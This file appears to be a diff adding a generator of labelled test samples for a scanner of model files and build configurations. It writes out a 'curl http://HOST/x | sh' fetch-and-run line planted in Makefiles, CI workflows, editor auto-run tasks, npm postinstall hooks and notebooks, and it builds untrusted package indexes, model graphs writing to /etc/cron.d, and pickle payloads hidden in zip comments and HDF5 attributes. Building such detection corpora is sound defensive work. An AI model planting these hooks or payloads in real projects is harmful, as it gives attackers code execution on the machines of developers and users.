@@ -1,0 +1,86 @@
+"""What lies around a model: settings of tools, steps that tools run, configurations of servers; and what archives hold beside members."""
+
+import base64
+import json
+import struct
+
+from . import hdf5
+from .protobuf import message
+from .registry import CLEAN, HOST, MALICIOUS, SUSPICIOUS
+from .sources import notebook
+from .torch import EVIL, WHAT
+from .zipwriter import Member, zip_file
+
+FETCH = f"curl http://{HOST}/x | sh"
+
+
+def add_samples(corpus):
+    settings(corpus)
+    steps(corpus)
+    servers(corpus)
+    around(corpus)
+
+
+def settings(corpus):
+    def add(name, verdict, text, what, why):
+        corpus.add(f"requirements/{name}", verdict, text, what, why)
+
+    add("project/pyproject.toml", CLEAN, '[build-system]\nrequires = ["setuptools>=61", "wheel"]\n[project]\nname = "weighin"\ndependencies = ["torch>=2"]\nurl = "https://example.com/project"\n', "a project with packages of the index", "the ordinary file")
+    add("project-evil/pyproject.toml", SUSPICIOUS, f'[build-system]\nrequires = ["setuptools", "weighin @ http://{HOST}/x.whl"]\n', "a project that is built with a package from an open address", "installing it runs the package")
+    add("pipenv/Pipfile", CLEAN, '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n[packages]\ntorch = "*"\n', "packages of the usual index", "the ordinary file")
+    add("pipenv-evil/Pipfile", SUSPICIOUS, f'[[source]]\nurl = "http://{HOST}/simple"\nverify_ssl = false\nname = "x"\n', "an index at an open address", "whoever owns it owns the machine")
+    add("pip/pip.conf", SUSPICIOUS, f"[global]\nindex-url = http://{HOST}/simple\ntrusted-host = {HOST}\n", "settings of pip with another index", "the same")
+    add("setup/setup.cfg", SUSPICIOUS, f"[options]\nsetup_requires = weighin @ http://{HOST}/x\n", "a project that is set up with a package from an open address", "the same")
+    add("setup-honest/setup.cfg", CLEAN, "[metadata]\nname = weighin\nurl = https://example.com/project\n[options]\npackages = find:\n", "an honest project", "the ordinary file")
+
+
+def steps(corpus):
+    def add(name, verdict, text, what, why):
+        corpus.add(name, verdict, text, what, why)
+
+    add("script/build/Makefile", MALICIOUS, f"all:\n\t{FETCH}\n", "a Makefile that runs what an open address gives", "make runs it")
+    add("script/build-honest/Makefile", CLEAN, "all:\n\tpython train.py\n\ninstall:\n\tpip install -r requirements.txt\n", "an honest Makefile", "the ordinary file")
+    add("config/workflow/test.yml", MALICIOUS, f"on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - run: |\n        pip install .\n        {FETCH}\n", "a workflow that runs what an open address gives", "the forge runs it")
+    add("config/workflow-honest/test.yml", CLEAN, "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        pip install .\n        pytest\n", "an honest workflow", "the ordinary file")
+    add("config/editor/tasks.json", MALICIOUS, json.dumps({"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": FETCH, "runOptions": {"runOn": "folderOpen"}}]}), "a task that the editor runs when the folder is opened", "opening the folder is enough")
+    add("config/editor-honest/tasks.json", CLEAN, json.dumps({"version": "2.0.0", "tasks": [{"label": "test", "type": "shell", "command": "pytest"}]}), "an honest task", "the ordinary file")
+    add("config/package/package.json", MALICIOUS, json.dumps({"name": "weighin", "version": "1.0.0", "scripts": {"postinstall": FETCH}}), "a package of Node that runs what an open address gives", "installing it runs the script")
+    add("config/package-honest/package.json", CLEAN, json.dumps({"name": "weighin", "version": "1.0.0", "scripts": {"test": "jest", "build": "tsc -p ."}}), "an honest package of Node", "the ordinary file")
+    add("config/project/MLproject", MALICIOUS, f'name: x\nentry_points:\n  main:\n    command: "{FETCH}"\n', "an MLflow project whose entry point runs what an open address gives", "mlflow run runs it")
+    add("notebook/ipython-system.ipynb", MALICIOUS, notebook(f"get_ipython().system('{FETCH}')"), "a cell that runs a command line by IPython's own method", "the same as a line with !")
+    add("notebook/perl.ipynb", MALICIOUS, notebook(f"%%perl\nsystem('{FETCH}')"), "a cell in Perl that pipes an open address to a shell", "every language starts programs")
+    add("notebook/other-languages.ipynb", CLEAN, notebook("%%javascript\nelement.text('done')", "%%latex\n$x$", "get_ipython().system('ls')"), "cells in other languages", "the ordinary file")
+
+
+def servers(corpus):
+    def add(name, verdict, text, what, why):
+        corpus.add(f"textproto/{name}", verdict, text, what, why)
+
+    add("honest.prototxt", CLEAN, 'name: "net"\n# type: "Python"\nlayer {\n  name: "relu"\n  type: "ReLU"\n}\n', "a network of one layer", "the ordinary file")
+    add("python.prototxt", SUSPICIOUS, 'layer {\n  name: "x"\n  type: "Python"\n  python_param { module: "os" layer: "system" }\n}\n', "a layer in Python", "Caffe imports its module")
+    graph = 'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node { name: "f" op: "Const" attr { key: "value" value { tensor { string_val: "%s" } } } }\n    node { name: "r" op: "%s" input: "f" }\n  }\n}\n'
+    add("graph/saved_model.pbtxt", CLEAN, graph % ("part", "SaveV2"), "a SavedModel in text with its saver", "TensorFlow loads either form")
+    add("graph-evil/saved_model.pbtxt", MALICIOUS, graph % ("/tmp/weighin", "WriteFile"), "a SavedModel in text that writes /tmp/weighin", "the same")
+    add("graph-python/saved_model.pbtxt", MALICIOUS, graph % ("x", "EagerPyFunc"), "a SavedModel in text that calls Python", "the same")
+    environment = 'name: "m"\nbackend: "python"\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n  value: { string_value: "%s" }\n}\n'
+    add("config.pbtxt", CLEAN, environment % "$$TRITON_MODEL_DIRECTORY/env.tar.gz", "a Triton model with an environment in its folder", "the ordinary file")
+    add("elsewhere/config.pbtxt", MALICIOUS, environment % "/tmp/env.tar.gz", "a Triton model with an environment in /tmp", "the server unpacks and runs it")
+
+    def program(op, path):
+        attribute = message((1, "file_path"), (2, 2), (5, path))
+        block = message((1, 0), (2, -1), (4, message((1, message((1, "X"), (2, "x"))), (3, op), (4, attribute))))
+        return message((1, block), (4, message((1, 2005000))))
+
+    corpus.add("paddle/save-outside.pdmodel", MALICIOUS, program("save_combine", "/etc/cron.d/weighin"), "a program that saves to /etc/cron.d", "running it writes the file")
+    corpus.add("paddle/load-outside.pdmodel", MALICIOUS, program("load", "../../../weighin"), "a program that loads a file three folders up", "running it reads the file")
+    corpus.add("paddle/save-inside.pdmodel", CLEAN, program("save", "weights/w"), "a program that saves beside itself", "programs of training do")
+
+
+def around(corpus):
+    text = b"notes about the model\n"
+    corpus.add("zip/pickle-in-comment.zip", MALICIOUS, zip_file([Member("notes.txt", text)], comment=EVIL + b"x"), f"a pickle in the comment of an archive: {WHAT}", "bytes that belong to no member")
+    field = struct.pack("<HH", 0x9999, len(EVIL)) + EVIL
+    corpus.add("zip/pickle-in-extra.zip", MALICIOUS, zip_file([Member("notes.txt", text, local={"extra": field})]), f"a pickle in an extra field: {WHAT}", "the same")
+    corpus.add("hdf5/attribute-encoded.h5", MALICIOUS, hdf5.plain(hdf5.attribute("note", base64.b64encode(EVIL * 3).decode())), f"an attribute with a pickle in base64: {WHAT}", "something decodes and loads it")
+    network = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data offset="18446744073709551600" size="64" shape="1"/></layer></layers></net>'
+    corpus.add("openvino/overflow.xml", SUSPICIOUS, network, "a constant whose end is beyond 64 bits", "a runtime that adds the two reads elsewhere")
